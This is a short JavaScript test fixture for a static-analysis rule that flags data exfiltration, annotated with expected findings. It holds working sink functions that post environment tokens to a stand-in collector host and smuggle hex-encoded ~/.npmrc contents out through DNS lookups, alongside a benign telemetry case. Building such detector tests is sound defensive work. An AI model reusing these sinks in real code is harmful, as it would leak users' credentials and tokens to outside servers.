// Sinks of the cross-file test; index.js passes what collect.js gathered.
const axios = require('axios');
const dns = require('dns');

const URL = 'https://collector.example.net/i';

exports.post = async function post(data) {
  // index.js passes { env: gatherEnv() } (process.env tokens).
  // ruleid: js.taint.exfiltration
  return axios.post(URL, data);
};

exports.overDns = function overDns(text) {
  const label = Buffer.from(text).toString('hex').slice(0, 50);
  // index.js passes the contents of ~/.npmrc.
  // ruleid: js.taint.exfiltration
  dns.resolve4(label + '.collector.example.net', () => {});
};

exports.telemetry = async function telemetry(info) {
  // index.js passes only the Node version and platform.
  // ok: js.taint.exfiltration
  return axios.post(URL, info);
};
